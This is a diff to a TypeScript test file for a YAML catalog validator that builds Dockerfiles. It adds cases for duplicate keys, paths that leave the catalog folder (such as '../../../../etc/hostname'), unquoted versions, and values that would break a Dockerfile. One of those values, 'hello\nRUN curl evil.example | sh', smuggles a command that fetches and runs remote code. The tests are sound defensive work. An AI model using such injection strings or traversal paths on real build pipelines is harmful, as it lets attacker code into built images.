@@ -17,7 +17,24 @@ const cases: { name: string; text: string; errors: (string | RegExp)[] }[] = [
         a: { kind: os, versions: { "1": {} } }
         a: { kind: os, versions: { "2": {} } }
     `,
-    errors: [/^catalog\.yaml:4:3: duplicate key "a" \(each key may appear once/],
+    errors: [
+      'catalog.yaml:4:3: images.a: duplicate key "a" (first at line 3, column 3) (each key may appear once in a map: merge the two entries or rename one)',
+    ],
+  },
+  {
+    name: 'duplicate keys, quoted and with line breaks, by their real key and key path',
+    text: yaml`
+      registry: r
+      images:
+        a: { kind: os, versions: { "3.13.5": {}, "3.13.5": {} } }
+        b: { kind: os, versions: { "x\\ny": {}, "x\\ny": {}, 1: {}, "1": {} } }
+    `,
+    errors: [
+      'catalog.yaml:3:44: images.a.versions.3.13.5: duplicate key "3.13.5" (first at line 3, column 30) (each key may appear once in a map: merge the two entries or rename one)',
+      'catalog.yaml:4:42: images.b.versions."x\\ny": duplicate key "x\\ny" (first at line 4, column 30) (each key may appear once in a map: merge the two entries or rename one)',
+      'catalog.yaml:4:42: images.b.versions."x\\ny": invalid version "x\\ny" (versions become tags: letters, digits, "_", "." and "-", at most 128)',
+      'catalog.yaml:4:61: images.b.versions.1: duplicate key "1" (first at line 4, column 54) (each key may appear once in a map: merge the two entries or rename one)',
+    ],
   },
   {
     name: 'an empty file',
@@ -234,7 +251,104 @@ const cases: { name: string; text: string; errors: (string | RegExp)[] }[] = [
       'catalog.yaml:5:35: images.a.versions.1.variants.0: unknown variant "slimm"; did you mean "slim"? (variants of this image: slim)',
     ],
   },
+  {
+    name: 'paths that leave the catalog folder',
+    text: yaml`
+      registry: r
+      images:
+        a:
+          kind: os
+          template: ../../../../etc/hostname
+          context: /etc
+          prepare: { run: [make], file: ../../x }
+          versions: { "1": {} }
+        b:
+          kind: os
+          template: images/../..\\secret
+          context: images/b/../../..
+          prepare: { run: [make], file: sub/.. }
+          versions: { "1": {} }
+    `,
+    errors: [
+      'catalog.yaml:5:15: images.a.template: template "../../../../etc/hostname" goes up out of the folder with "..": it must name a file inside the catalog\'s folder (write a path relative to the catalog\'s folder that stays inside it, e.g. images/a/Dockerfile.hbs)',
+      'catalog.yaml:6:14: images.a.context: context "/etc" is absolute: it must name a folder inside the catalog\'s folder (write a path relative to the catalog\'s folder that stays inside it, e.g. images/a/)',
+      'catalog.yaml:7:35: images.a.prepare.file: file "../../x" goes up out of the folder with "..": it must name a file inside the build context (write a path relative to the build context that stays inside it, e.g. rootfs.tar)',
+      /^catalog\.yaml:11:15: images\.b\.template: template "images\/\.\.\/\.\.\\\\secret" goes up out of the folder/,
+      /^catalog\.yaml:12:14: images\.b\.context: context "images\/b\/\.\.\/\.\.\/\.\." goes up/,
+      /^catalog\.yaml:13:35: images\.b\.prepare\.file: file "sub\/\.\." names the folder itself/,
+    ],
+  },
+  {
+    name: 'values that would break a Dockerfile (no templates needed)',
+    text: yaml`
+      registry: r
+      labels: { vendor: "Acme\\rLABEL x=y" }
+      vars: { motd: "hello\\nRUN curl evil.example | sh" }
+      mirrors: { pypi: "https://pypi.org/simple\\u0007" }
+      images:
+        a:
+          kind: os
+          description: "ends in a backslash \\\\"
+          versions: { "1": { greeting: [ok, "line\\nbreak"] } }
+          variants: { slim: { default: true, note: "tab\\tis fine", other: "bell\\u0007" } }
+    `,
+    errors: [
+      'catalog.yaml:2:19: labels.vendor: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:3:15: vars.motd: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:4:18: mirrors.pypi: value contains a control character (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:8:18: images.a.description: value ends with a backslash, which would continue the line into the next instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:9:39: images.a.versions.1.greeting.1: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:10:69: images.a.variants.slim.other: value contains a control character (values end up in Dockerfiles: keep them on one line)',
+    ],
+  },
+  {
+    name: 'unquoted versions that YAML reads as other numbers',
+    text: yaml`
+      registry: r
+      images:
+        python:
+          kind: os
+          versions: { 3.10: {}, 3.9: {}, 13: {}, "3.11": {}, 010: {} }
+        flask:
+          kind: runtime
+          from: python:3.10
+          versions:
+            1.0: {}
+            2.0.1: {}
+    `,
+    errors: [
+      'catalog.yaml:5:17: images.python.versions.3.10: version 3.10 is not quoted: YAML reads it as the number 3.1 (write "3.10")',
+      'catalog.yaml:5:56: images.python.versions.010: version 010 is not quoted: YAML reads it as the number 10 (write "010")',
+      'catalog.yaml:10:7: images.flask.versions.1.0: version 1.0 is not quoted: YAML reads it as the number 1 (write "1.0")',
+    ],
+  },
+  {
+    name: 'numbers where text is expected, quoted as written when YAML changed them',
+    text: yaml`
+      registry: r
+      images:
+        a: { kind: os, title: 2, description: 1.50, tags: { latest: 3.10 }, versions: { "1": {} } }
+    `,
+    errors: [
+      'catalog.yaml:3:25: images.a.title: expected string, got number 2',
+      'catalog.yaml:3:41: images.a.description: expected string, got number 1.5 (write "1.50")',
+      'catalog.yaml:3:63: images.a.tags.latest: expected boolean or string, got number 3.1 (write "3.10")',
+    ],
+  },
+  {
+    name: 'a key with a line break, on one line',
+    text: 'registry: r\n"x\\ny\\u0007": 1\nimages:\n  a: { kind: os, versions: { "1": {} } }\n',
+    errors: [/^catalog\.yaml:2:1: "x\\ny\\u0007": unknown key "x\\ny\\u0007" \(allowed keys: /],
+  },
 ];
+
+/** Orders formatted errors by line, then column, as the report does. */
+function byPosition(a: string, b: string): number {
+  const at = (e: string) => (/^[^:]+:(\d+):(\d+):/.exec(e) ?? []).slice(1).map(Number);
+  const [la = 0, ca = 0] = at(a);
+  const [lb = 0, cb = 0] = at(b);
+  return la - lb || ca - cb;
+}
 
 describe('validation errors', () => {
   it.each(cases)('reports $name with file:line:col and key path', ({ text, errors }) => {
@@ -244,6 +358,69 @@ describe('validation errors', () => {
       if (typeof expected === 'string') expect(actual[i]).toBe(expected);
       else expect(actual[i]).toMatch(expected);
     });
+  });
+
+  it('reports every error of an image, a schema error hiding none of the others', () => {
+    const text = yaml`
+      registry: r
+      images:
+        a:
+          kind: osx
+          versioning: pep440
+          from: pyhton:1
+          title: 5
+          versions: { "3.13.x": {}, "2": { form: x }, "3": { from: 7 } }
+          variants: { a: { default: true }, b: { default: true } }
+        python: { kind: os, versions: { "1": {} } }
+        c:
+          kind: runtime
+          from: python:9
+          versions: { "1.0.x": {} }
+    `;
+    expect(errorsOf(text)).toEqual(
+      [
+        'catalog.yaml:4:11: images.a.kind: unknown kind "osx"; did you mean "os"? (expected one of os, runtime, framework, app)',
+        'catalog.yaml:6:11: images.a.from: unknown image "pyhton"; did you mean "python"?',
+        'catalog.yaml:7:12: images.a.title: expected string, got number 5',
+        'catalog.yaml:8:17: images.a.versions.3.13.x: invalid version "3.13.x" (expected a PEP 440 version such as 3.13.5 or 3.14.0rc1 (no epoch or local part))',
+        'catalog.yaml:8:38: images.a.versions.2.form: unknown key "form"; did you mean "from"? (rename it, or give the template variable another name)',
+        'catalog.yaml:8:62: images.a.versions.3.from: expected string, got number 7',
+        'catalog.yaml:9:53: images.a.variants.b.default: variants "a" and "b" are both marked default (keep "default: true" on one variant only)',
+        'catalog.yaml:14:17: images.c.versions.1.0.x: invalid version "1.0.x" (expected a PEP 440 version such as 3.13.5 or 3.14.0rc1 (no epoch or local part))',
+        'catalog.yaml:13:11: images.c.from: image "python" has no version "9"; did you mean "1"? (versions: 1)',
+      ].sort(byPosition),
+    );
+  });
+
+  it('checks the valid top-level settings when another one is wrong', () => {
+    const text = yaml`
+      registry: 5
+      labels: { vendor: "a\\nb" }
+      mirrors: { "bad-name": x, evil: "y\\nRUN z" }
+      images:
+        a: { kind: os, versions: { "1": {} } }
+    `;
+    expect(errorsOf(text)).toEqual([
+      'catalog.yaml:1:11: registry: expected string, got number 5',
+      'catalog.yaml:2:19: labels.vendor: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
+      'catalog.yaml:3:12: mirrors.bad-name: invalid mirror name "bad-name" (mirror names are identifiers (they become MIRROR_<NAME>): letters, digits and "_")',
+      'catalog.yaml:3:33: mirrors.evil: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
+    ]);
+  });
+
+  it('goes on after duplicate keys: every other problem is reported too', () => {
+    const text = yaml`
+      registry: r
+      images:
+        a: { kind: os, versions: { "1": {} } }
+        a: { kind: osx, versions: { "2": {} } }
+        b: { kind: runtime, from: nope:1, versions: { "1": {} } }
+    `;
+    expect(errorsOf(text)).toEqual([
+      'catalog.yaml:4:3: images.a: duplicate key "a" (first at line 3, column 3) (each key may appear once in a map: merge the two entries or rename one)',
+      'catalog.yaml:4:14: images.a.kind: unknown kind "osx"; did you mean "os"? (expected one of os, runtime, framework, app)',
+      'catalog.yaml:5:29: images.b.from: unknown image "nope" in this catalog (external parents are fully qualified, e.g. docker.io/library/nope:1)',
+    ]);
   });
 
   it('reports every error of a file in one run, across images', () => {
